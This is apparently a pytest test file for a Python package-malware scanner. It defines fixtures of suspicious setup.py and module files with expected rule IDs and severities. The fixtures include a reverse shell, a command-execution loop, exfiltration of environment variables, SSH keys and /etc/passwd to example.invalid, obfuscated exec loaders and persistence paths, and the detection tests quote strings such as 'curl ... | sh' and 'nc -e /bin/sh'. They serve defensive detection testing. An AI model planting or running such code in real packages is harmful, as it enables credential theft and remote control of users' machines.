        "CORES = subprocess.run(['lscpu', '--parse=core'], capture_output=True).stdout\n"
        "setup(name='x')\n")},
        "setup.py", 4, S.MEDIUM, "a hardware probe, like nproc"),
    "pv101-install-guard": SevPath("PV101", {"setup.py": (
        "import os\n"
        "import sys\n"
        "\n"
        "if 'install' in sys.argv or sys.argv[-1] == 'publish':\n"
        "    os.system('whoami')\n")},
        "setup.py", 5, S.HIGH, "a guard pip satisfies: install-time"),
    "pv101-negated-guard": SevPath("PV101", {"setup.py": (
        "import os\n"
        "import sys\n"
        "\n"
        "if sys.argv[-1] != 'publish':\n"
        "    os.system('whoami')\n")},
        "setup.py", 5, S.HIGH, "a negated guard runs on install"),
    "pv101-upload-command-class": SevPath("PV101", {"setup.py": (
        "import os\n"
        "from setuptools import Command, setup\n"
        "\n"
        "class Upload(Command):\n"
        "    def run(self):\n"
        "        os.system('twine upload dist/*')\n"
        "\n"
        "setup(name='x', cmdclass={'upload': Upload})\n")},
        "setup.py", 6, S.LOW, "a command class registered only as 'upload'"),
    "pv101-command-class-also-install": SevPath("PV101", {"setup.py": (
        "import os\n"
        "from setuptools import Command, setup\n"
        "\n"
        "class Upload(Command):\n"
        "    def run(self):\n"
        "        os.system('whoami')\n"
        "\n"
        "cmds = {'upload': Upload}\n"
        "cmds['install'] = Upload\n"
        "setup(name='x', cmdclass=cmds)\n")},
        "setup.py", 6, S.HIGH, "the same class registered again by subscript: it may run"),
    "pv101-clear-on-import": SevPath("PV101", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import os\n"
            "\n"
            "os.system('clear')\n")},
        "mypkg/__init__.py", 3, S.MEDIUM, "clearing the terminal on import"),
    "pv404-received-command-run": SevPath("PV404", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/agent.py": (
            "import socket\n"
            "import subprocess\n"
            "\n"
            "def loop():\n"
            "    s = socket.socket()\n"
            "    s.connect(('example.invalid', 4444))\n"
            "    while True:\n"
            "        data = s.recv(1024)\n"
            "        cmd = data.decode().strip()\n"
            "        s.send(subprocess.getoutput(cmd).encode())\n")},
        "mypkg/agent.py", 10, S.HIGH, "received bytes reach the shell through two names"),
    "pv404-server-running-a-fixed-tool": SevPath("PV404", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/server.py": (
            "import socket\n"
            "import subprocess\n"
            "\n"
            "def serve(port):\n"
            "    subprocess.Popen(['maxima', '-s', str(port)])\n"
            "    with socket.socket() as s:\n"
            "        s.bind(('127.0.0.1', port))\n"
            "        s.listen()\n"
            "        conn, _ = s.accept()\n"
            "        return conn.recv(1024).decode()\n")},
        "mypkg/server.py", 6, S.MEDIUM, "a server driving a fixed program: what it receives is"
        " not run"),
    "pv206-pathlib-at-import": SevPath("PV206", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import subprocess\n"
            "from pathlib import Path\n"
            "\n"
            "script = Path.home() / 'update.pyw'\n"
            "script.write_text('print(1)')\n"
            "subprocess.Popen(['pythonw', str(script)])\n")},
        "mypkg/__init__.py", 6, S.HIGH, "a script written with pathlib and started on import"),
    "pv305-sent-with-curl": SevPath("PV305", {"setup.py": (
        "import json\n"
        "import os\n"
        "import subprocess\n"
        "\n"
        "env = json.dumps(dict(os.environ))\n"
        "subprocess.run(['curl', '-d', env, 'https://example.invalid/'])\n")},
        "setup.py", 5, S.HIGH, "curl as the way out, not an HTTP library"),
    "pv404-shell-written-from-a-constant": SevPath("PV404", {"setup.py": (
        "import subprocess\n"
        "\n"
        "CODE = '''import os, pty, socket\n"
        "s = socket.socket()\n"
        "s.connect(('example.invalid', 4444))\n"
        "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
        "pty.spawn('/bin/sh')\n"
        "'''\n"
        "with open('/tmp/x.py', 'w') as fh:\n"
        "    fh.write(CODE)\n"
        "subprocess.Popen(['python3', '/tmp/x.py'])\n")},
        "setup.py", 10, S.CRITICAL, "a script held in a module constant, written and started"),
    "pv201-built-with-plus-equals-then-decoded": SevPath("PV201", {
        "PKG-INFO": _PKG_INFO, "mypkg/_impl.py": (
            "import base64\n"
            "import zlib\n"
            "\n"
            "def load():\n"
            "    z = ''\n"
            "    z += 'eJwrKMrMK9EwVNTkAgAQ'\n"
            "    z += 'jwMQ'\n"
            "    z = zlib.decompress(base64.b64decode(z))\n"
            "    exec(z)\n")},
        "mypkg/_impl.py", 9, S.HIGH, "a name built with +=, decoded, then executed"),
    "pv201-xor-loop": SevPath("PV201", {
        "PKG-INFO": _PKG_INFO, "mypkg/_impl.py": (
            "KEY = '3141592'\n"
            "BLOB = 'CG@@\\x03\\x1d\\x1a'\n"
            "out = ''\n"
            "for i, ch in enumerate(BLOB):\n"
            "    out += chr(ord(ch) ^ ord(KEY[i % len(KEY)]))\n"
            "eval(compile(out, '<string>', 'exec'))\n")},
        "mypkg/_impl.py", 6, S.HIGH, "a hand-written XOR decoder feeding compile and eval"),
    "pv201-substitution-alphabet": SevPath("PV201", {
        "PKG-INFO": _PKG_INFO, "mypkg/_impl.py": (
            "import string\n"
            "\n"
            "A = string.ascii_letters\n"
            "R = A[::-1]\n"
            "exec(''.join([R[A.index(c)] if c in A else c for c in 'KIRMG(1)']))\n")},
        "mypkg/_impl.py", 5, S.HIGH, "an alphabet substitution through str.index"),
    "pv201-through-evaluated-names": SevPath("PV201", {
        "PKG-INFO": _PKG_INFO, "mypkg/__main__.py": (
            "_e = eval('eval')\n"
            "_c = _e('compile')\n"
            "_x = _e(_c('exec', '<s>', 'eval'))\n"
            "_m = _e(\"__import__('codecs')\")\n"
            "_x(_m.decode('cHJpbnQoMSk=', 'base64'))\n")},
        "mypkg/__main__.py", 5, S.HIGH, "exec and the decoder reached through eval'd names"),
    "pv408-run-time": SevPath("PV408", {
        "PKG-INFO": _PKG_INFO, "mypkg/client.py": (
            "import base64\n"
            "import requests\n"
            "\n"
            "def send(access_key, secret_key):\n"
            "    url = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYXdz').decode()\n"
            "    requests.post(url=url, json={'ak': access_key, 'sk': secret_key})\n")},
        "mypkg/client.py", 6, S.HIGH, "keys posted to a hidden address: high even on demand"),
    "pv408-run-time-fetch": SevPath("PV408", {
        "PKG-INFO": _PKG_INFO, "mypkg/client.py": (
            "import base64\n"
            "import requests\n"
            "\n"
            "def check():\n"
            "    url = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYXdz').decode()\n"
            "    return requests.get(url, timeout=5).status_code\n")},
        "mypkg/client.py", 6, S.MEDIUM, "a hidden address fetched on demand, nothing sent"),
    "pv102-pip-from-a-foreign-host": SevPath("PV102", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import os\n"
            "import sys\n"
            "\n"
            "os.system(f'{sys.executable} -m pip install '\n"
            "          'https://files.example.invalid/packages/colorama-0.4.6.tar.gz')\n")},
        "mypkg/__init__.py", 4, S.HIGH, "pip fetching from a host that is not PyPI"),
    "pv603-protector-in-setup-py": SevPath("PV603", {"setup.py": (
        "from pytransform import pyarmor_runtime\n"
        "pyarmor_runtime()\n"
        "__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52\\x4d\\x4f\\x52')\n")},
        "setup.py", 1, S.HIGH, "a commercial protector hiding setup.py itself"),
    "pv603-protector-in-setup-py-maintainer-branch": SevPath("PV603", {"setup.py": (
        "import sys\n"
        "from setuptools import setup\n"
        "\n"
        "if sys.argv[-1] == 'publish':\n"
        "    from pytransform import pyarmor_runtime\n"
        "    pyarmor_runtime()\n"
        "setup(name='x')\n")},
        "setup.py", 5, S.MEDIUM, "a protector only a maintainer command loads"),
    "pv402-paste-link-in-setup-py": SevPath("PV402", {"setup.py": (
        "import urllib.request\n"
        "from setuptools import setup\n"
        "\n"
        "urllib.request.urlretrieve('https://pastebin.com/raw/EXAMPLE0', 'x.py')\n"
        "setup(name='x')\n")},
        "setup.py", 4, S.HIGH, "a paste link fetched when pip runs setup.py"),
    "pv402-paste-link-in-setup-py-maintainer-branch": SevPath("PV402", {"setup.py": (
        "import sys\n"
        "import webbrowser\n"
        "from setuptools import setup\n"
        "\n"
        "if sys.argv[-1] == 'publish':\n"
        "    webbrowser.open('https://bit.ly/EXAMPLE0')\n"
        "setup(name='x')\n")},
        "setup.py", 6, S.MEDIUM, "a short link only a maintainer command opens"),
    "pv304-ssh-key-path-joined-from-parts": SevPath("PV304", {"setup.py": (
        "import os\n"
        "import requests\n"
        "\n"
        "home = os.path.expanduser('~')\n"
        "with open(os.path.join(home, '.ssh', 'id_rsa')) as fh:\n"
        "    requests.post('https://example.invalid/k', data=fh.read())\n")},
        "setup.py", 5, S.HIGH, "the key path given to os.path.join in parts, sent at install"),
    "pv408-src-layout-py-module": SevPath("PV408", {"setup.py": (
        "from setuptools import setup\n"
        "\n"
        "setup(name='fixture-sev', version='1.0', package_dir={'': 'src'},\n"
        "      py_modules=['tool'])\n"),
        "src/tool.py": (
            "import base64\n"
            "import urllib.request\n"
            "\n"
            "urllib.request.urlopen(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYw=='))\n")},
        "src/tool.py", 4, S.HIGH, "a py_modules module of a src/ layout runs on import"),
    "pv302-token-check-alone": SevPath("PV302", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import requests\n"
            "\n"
            "ME = requests.get('https://discord.com/api/v9/users/@me',\n"
            "                  headers={'Authorization': 'token-from-the-user'})\n")},
        "mypkg/__init__.py", 3, S.MEDIUM, "Discord's token check with no token theft: medium"),
    "pv302-token-check-beside-leveldb": SevPath("PV302", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import os\n"
            "import requests\n"
            "\n"
            "P = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
            "requests.get('https://discord.com/api/v9/users/@me')\n")},
        "mypkg/__init__.py", 4, S.HIGH, "the token check beside Discord's token store: high"),
    "pv305-environ-iterated": SevPath("PV305", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import os\n"
            "from urllib import request\n"
            "\n"
            "env = ''\n"
            "for k in os.environ:\n"
            "    env += k + '=' + os.getenv(k)\n"
            "request.urlopen('https://example.invalid/', data=env.encode())\n")},
        "mypkg/__init__.py", 5, S.HIGH, "every variable read in a loop and sent on import"),
    "pv305-environ-copy-dumped": SevPath("PV305", {"setup.py": (
        "import json\n"
        "import os\n"
        "import urllib.request\n"
        "\n"
        "body = json.dumps(os.environ.copy()).encode()\n"
        "urllib.request.urlopen('https://example.invalid/', data=body)\n")},
        "setup.py", 5, S.HIGH, "a copy of the whole environment serialised at install time"),
    "pv306-fingerprint-by-reference": SevPath("PV306", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import os\n"
            "from urllib import request\n"
            "\n"
            "\n"
            "def safe(fn):\n"
            "    return fn()\n"
            "\n"
            "\n"
            "host = safe(os.uname)\n"
            "request.urlopen('https://example.invalid/?h=' + str(host))\n")},
        "mypkg/__init__.py", 9, S.HIGH, "os.uname handed to a helper, not called by name"),
    "pv306-etc-passwd-sent": SevPath("PV306", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import urllib.request\n"
            "\n"
            "users = open('/etc/passwd').read()\n"
            "urllib.request.urlopen('https://example.invalid/', data=users.encode())\n")},
        "mypkg/__init__.py", 3, S.HIGH, "the account list read and sent on import"),
    "pv401-run-time": SevPath("PV401", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/notify.py": (
            f"WEBHOOK = {_WEBHOOK!r}\n")},
        "mypkg/notify.py", 1, S.MEDIUM, "a chat webhook in a run-time module"),
    "pv501-start-menu-in-setup": SevPath("PV501", {"setup.py": (
        "import os\n"
        "\n"
        f"STARTUP = os.path.join(os.environ['APPDATA'], '{_STARTUP}')\n")},
        "setup.py", 3, S.HIGH, "the Startup folder named in install-time code"),
    "pv501-start-menu-at-run-time": SevPath("PV501", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/paths.py": (
            "import os\n"
            "\n"
            "\n"
            "def startup():\n"
            f"    return os.path.join(os.environ['APPDATA'], '{_STARTUP}')\n")},
        "mypkg/paths.py", 5, S.MEDIUM, "the Startup folder named at run time, nothing written"),
    "pv501-service-enabled-on-demand": SevPath("PV501", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": "", "mypkg/service.py": (
            "import subprocess\n"
            "\n"
            "\n"
            "def enable(unit):\n"
            "    subprocess.run('systemctl enable ' + unit, shell=True, check=True)\n")},
        "mypkg/service.py", 5, S.MEDIUM,
        "a service manager's command, run when the user asks (it could run programs: was high)"),
    "pv306-user-name-sent-on-demand": SevPath("PV306", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import getpass\n"
            "import urllib.request\n"
            "\n"
            "USER = getpass.getuser()\n"
            "\n"
            "\n"
            "def connect(url):\n"
            "    return urllib.request.urlopen(url, data=USER.encode())\n")},
        "mypkg/__init__.py", 4, S.MEDIUM,
        "the user name read on import, sent only when a caller connects"),
    "pv306-own-address-looked-up-on-import": SevPath("PV306", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import socket\n"
            "\n"
            "LOCAL_IP = socket.gethostbyname(socket.gethostname())\n"
            "\n"
            "\n"
            "def serve():\n"
            "    return socket.create_server((LOCAL_IP, 8080))\n")},
        "mypkg/__init__.py", 3, S.MEDIUM,
        "a DNS lookup of the machine's own name finds an address and sends nothing"),
    "pv306-user-name-sent-on-import": SevPath("PV306", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "import getpass\n"
            "import socket\n"
            "\n"
            "USER = getpass.getuser()\n"
            "socket.gethostbyname(USER + '.example.invalid')\n")},
        "mypkg/__init__.py", 4, S.HIGH, "the user name leaves by a DNS lookup on import"),
    "pv606-function-in-package-init": SevPath("PV606", {
        "PKG-INFO": _PKG_INFO, "mypkg/__init__.py": (
            "from PIL import Image\n"
            "\n"
            "\n"
            "def load_theme(path):\n"
            "    img = Image.open(path)\n"
            "    exec(bytes(p[0] for p in img.getdata()).decode())\n")},
        "mypkg/__init__.py", 5, S.MEDIUM, "import-time file, but inside a function body"),
    "pv803-with-network-in-setup": SevPath("PV803", {
        "PKG-INFO": _PKG_INFO.replace("Version: 1.0", "Version: 99.0.0"), "setup.py": (
            "import urllib.request\n"
            "\n"
            "from setuptools import setup\n"
            "\n"
            "urllib.request.urlopen('https://example.invalid/ping')\n"
            "setup(name='fixture-sev', version='99.0.0')\n")},
        "PKG-INFO", 0, S.HIGH, "confusion version and an install-time beacon"),
}


def _write(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text, encoding="utf-8")
    return root


@pytest.mark.parametrize("name", sorted(SEVERITY_PATHS))
def test_severity_path(name: str, tmp_path: Path) -> None:
    case = SEVERITY_PATHS[name]
    result = scan_target(_write(tmp_path / "pkg", case.files))
    _healthy(result)
    own = [f for f in result.findings if f.rule_id == case.rule_id]
    assert (case.path, case.line) in {(f.path, f.line) for f in own}, (
        f"expected {case.rule_id} at {case.path}:{case.line} ({case.note}):\n"
        + _show(result.findings))
    wrong = [f for f in own if f.severity is not case.severity]
    assert not wrong, f"expected {case.severity.value} ({case.note}):\n" + _show(wrong)


@pytest.mark.parametrize(
    "ip", ["1.2.3.4", "12.34.56.78", "123.45.67.89", "2.2.2.2", "125.125.125.125", "93.184.216.34"])
def test_example_addresses_are_no_endpoint(ip: str, tmp_path: Path) -> None:
    files = {"setup.py": (
        "import urllib.request\n"
        "\n"
        "from setuptools import setup\n"
        "\n"
        f"urllib.request.urlopen('http://{ip}:8080/register')\n"
        "setup(name='fixture-sev', version='1.0')\n")}
    result = scan_target(_write(tmp_path / "pkg", files))
    _healthy(result)
    assert not [f for f in result.findings if f.rule_id in ("PV403", "PV407")], _show(
        result.findings)
    assert [f.rule_id for f in result.findings if f.rule_id == "PV406"] == ["PV406"]


def test_capped_finding_in_tests_says_so(tmp_path: Path) -> None:
    result = scan_target(_write(tmp_path / "pkg", SEVERITY_PATHS["pv203-raw-ip-in-tests"].files))
    (f,) = [f for f in result.findings if f.rule_id == "PV203"]
    assert f.message.endswith("(in tests: capped at medium)"), f.message
    result = scan_target(_write(tmp_path / "venv-pkg", SEVERITY_PATHS[
        "pv203-raw-ip-in-bundled-virtualenv"].files))
    (f,) = [f for f in result.findings if f.rule_id == "PV203"]
    assert f.message.endswith("(in a bundled virtualenv: capped at medium)"), f.message


def test_xor_fixture_is_what_it_claims() -> None:
    """Guards pv204-xor-literal-in-cmdclass: the literal unscrambles to print(1) lines."""
    tree = ast.parse(_xor_setup())
    blob = next(n.value.value for n in tree.body
                if isinstance(n, ast.Assign) and isinstance(n.value, ast.Constant))
    assert bytes(b ^ 0x2A for b in blob) == b"print(1)\n" * 16


# --------------------------------------------------------------------------------------------
# Regressions (rule bugs that were fixed) and known weaknesses (strict xfails: each documents a
# bug in src/ and flips when it is fixed, and must then move to REGRESSIONS)


@dataclass(frozen=True)
class Case:
    rule_id: str
    files: dict[str, str]
    line: int | None  # where the finding must be; None: the rule must not fire at all
    note: str  # the bug that was fixed
    severity: Severity | None = None  # the least severity expected when it must fire


def _python_blob() -> str:
    """2,000+ characters of base64 that decode to plain Python."""
    code = "\n".join(f"def handler_{i}(event, context):\n"
                     f"    return {{'id': {i}, 'name': event.get('n{i}'), 'ok': True}}\n"
                     for i in range(30))
    return base64.b64encode(code.encode()).decode()


REGRESSIONS = {
    "pv202-reports-the-literal-exec": Case("PV202", {"mypkg/__init__.py": (
        "import urllib.request\n"
        "data = urllib.request.urlopen('https://example.invalid/a').read()\n"
        "exec(data)\n"
        "exec('x = 1')\n")}, 3,
        "PV202 reports the computed exec(data) on line 3, not the literal exec on line 4"),
    "pv201-name-decoded-in-another-function-is-quiet": Case("PV201", {"mypkg/tool.py": (
        "import base64\n"
        "\n"
        "def decode(blob):\n"
        "    code = base64.b64decode(blob)\n"
        "    return code\n"
        "\n"
        "def run(code):\n"
        "    exec(code)\n")}, None,
        "what a name is assigned in one function says nothing of a parameter of the same name "
        "in another: the decoded-data check reads the exec call's own scope only"),
    "pv201-pyc-cache-of-an-import-hook-is-quiet": Case("PV201", {"mypkg/hook.py": (
        "import marshal\n"
        "\n"
        "def load(mod, cachename, source, path):\n"
        "    try:\n"
        "        with open(cachename, 'rb') as f:\n"
        "            code = marshal.loads(f.read())\n"
        "    except OSError:\n"
        "        code = compile(source, path, 'exec')\n"
        "    exec(code, mod.__dict__)\n")}, None,
        "an import hook that loads its .pyc cache with marshal.loads into a name, then execs it "
        "(future's past.translation), was 'exec of decoded data' once names were followed"),
    "pv802-reports-the-first-pth-line": Case("PV802", {"x.pth": (
        "import sys; sys.stdout.flush()\n"
        "import os; os.getcwd()\n")}, 1,
        "PV802 reported f.calls[0], which the LIFO stack walk made the last statement's call"),
    "pv305-attribute-reference-at-its-line": Case("PV305", {"setup.py": (
        "import json\n"
        "import os\n"
        "import urllib.request\n"
        "\n"
        "urllib.request.urlopen('https://example.invalid/x', json.dumps(os.environ).encode())\n"
        )}, 5,
        "capabilities from attribute references (REFS: os.environ) were recorded at line 1 in "
        "FileContext._index, not at the reference"),
    "pv405-local-address-idiom-is-quiet": Case("PV405", {"mypkg/net.py": (
        "import socket\n"
        "ip = socket.gethostbyname(socket.gethostname())\n")}, None,
        "the common local-address idiom was a 'computed host name' in code that fingerprints "
        "(gethostname), so PV405 reported DNS exfiltration at high"),
    "pv501-bashrc-append": Case("PV501", {"mypkg/hook.py": (
        "import os\n"
        "with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
        "    fh.write('echo 1\\n')\n")}, 2,
        "appending to ~/.bashrc was not reported: the rc-file branch needed FILE_WRITE/REGISTRY/"
        "PROCESS, and open() grants no capability",
        Severity.MEDIUM),
    "pv603-hyperion-is-a-moon": Case("PV603", {"mypkg/moons.py": (
        "SATURN_MOONS = ['Titan', 'Hyperion', 'Iapetus']\n")}, None,
        "OBFUSCATOR_MALWARE matched 'Hyperion' (and 'W3LL') anywhere in the text, without word "
        "boundaries: a moon's name was a high 'malware obfuscator marker'"),
    "pv201-py2-source-is-still-decoded": Case("PV201", {"setup.py": (
        "import base64\n"
        "print 'building'\n"
        "exec(base64.b64decode('cHJpbnQoMSk='))\n")}, 3,
        "one Python 2 statement sent the file to the tokenizer fallback, whose exec sites had "
        "via_decoder=False and no arg_calls: exec(b64decode(...)) became PV204 low",
        Severity.HIGH),
    "literal-exec-code-is-analysed": Case("PV101", {"setup.py": (
        "exec(\"import os; os.system('echo 1')\")\n")}, 1,
        "exec of a string literal was never parsed as code (_decode_payloads skipped "
        "site.literal), so os.system inside it was invisible to PV101 and every API-based rule",
        Severity.MEDIUM),
    "pv205-marshal-load": Case("PV205", {"mypkg/x.py": (
        "import marshal\n"
        "exec(marshal.load(open('payload.bin', 'rb')))\n")}, 2,
        "only marshal.loads was matched; marshal.load(file) loads code objects just the same",
        Severity.HIGH),
    "pv602-decoded-python-blob-is-not-random": Case(
        "PV602", {"mypkg/handlers.py": f"TABLE = {_python_blob()!r}\n"}, None,
        "PV602 says 'that did not decode to Python' but did not check: a long base64 literal "
        "of Python got PV601 and PV602"),
    "pv801-hook-that-only-calls-parent-is-quiet": Case("PV801", {"setup.py": (
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class Install(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "setup(name='x', cmdclass={'install': Install})\n")}, None,
        "the docstring reports a run() 'that does more than call the parent', but any cmdclass "
        "override was reported (low)"),
}



def _check_case(case: Case, tmp_path: Path) -> None:
    result = scan_target(_write(tmp_path / "pkg", case.files))
    _healthy(result)
    own = [f for f in result.findings if f.rule_id == case.rule_id]
    if case.line is None:
        assert not own, _show(own)
    else:
        at = [f for f in own if f.line == case.line
              and (case.severity is None or f.severity >= case.severity)]
        assert at, f"expected {case.rule_id} at line {case.line}:\n" + _show(result.findings)


@pytest.mark.parametrize("name", sorted(REGRESSIONS))
def test_regression(name: str, tmp_path: Path) -> None:
    _check_case(REGRESSIONS[name], tmp_path)



def test_versioned_shared_library_in_wheel_is_not_a_disguise() -> None:
    """Regression: auditwheel-repaired wheels vendor versioned shared libraries
    (.libs/libX-hash.so.5.0.0); PV701 took the last suffix ('.0') for a disguise and reported
    high."""
    data = make_zip({
        "mypkg/__init__.py": b"",
        "mypkg.libs/libgfortran-abc123.so.5.0.0": ELF,
        "mypkg-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: mypkg\nVersion: 1.0\n",
    })
    result = scan_bytes(data, "mypkg-1.0-cp311-cp311-manylinux_2_17_x86_64.whl")
    _healthy(result)
    own = [f for f in result.findings if f.rule_id == "PV701"]
    assert not [f for f in own if f.severity > Severity.LOW], _show(own)


def test_metadata_finding_path_is_the_archive_path() -> None:
    """Regression: metadata findings (PV803/PV804/PV805/PV807) used the package-relative
    'PKG-INFO', while every other finding of an sdist uses the member's path in the archive
    ('name-1.0/setup.py')."""
    data = sdist("fixture-meta", "99.0.0", {"setup.py": "print(1)\n"})
    result = scan_bytes(data, "fixture-meta-99.0.0.tar.gz")
    _healthy(result)
    own = [f for f in result.findings if f.rule_id == "PV803"]
    assert own and all(f.path == "fixture-meta-99.0.0/PKG-INFO" for f in own), _show(own)


def _first_chars(seq: object) -> set[str]:
    """Characters a parsed regex sequence can start with, after zero-width ``\\b``/``^``
    (``re._parser`` trees; a construct other than literals and groups fails the test)."""
    from re import _constants as sre

    for op, av in seq:  # type: ignore[attr-defined]
        if op is sre.AT:
            continue
        if op is sre.LITERAL:
            return {chr(av).lower()}
        if op is sre.BRANCH:
            return set().union(*(_first_chars(b) for b in av[1]))
        if op is sre.SUBPATTERN:
            return _first_chars(av[-1])
        raise AssertionError(f"cannot tell the first character of {op}")
    raise AssertionError("an alternative that can match the empty string")


def test_shell_lookahead_admits_every_alternative() -> None:
    """SHELL_HIGH's lookahead on first characters (a speed-up) never hides a match."""
    from re import _parser

    from pkgvet.rules.indicators import _SHELL_ALTERNATIVES, _SHELL_FIRST, SHELL_HIGH

    parsed = _parser.parse(_SHELL_ALTERNATIVES, SHELL_HIGH.pattern.flags)
    assert _first_chars(parsed) <= set(_SHELL_FIRST)
    assert SHELL_HIGH.pattern.pattern == f"(?=[{_SHELL_FIRST}])(?:{_SHELL_ALTERNATIVES})"
    for text in ("curl -s http://example.invalid/x | sh", "NC -e /bin/sh example.invalid 1"):
        assert SHELL_HIGH.search(text) is not None
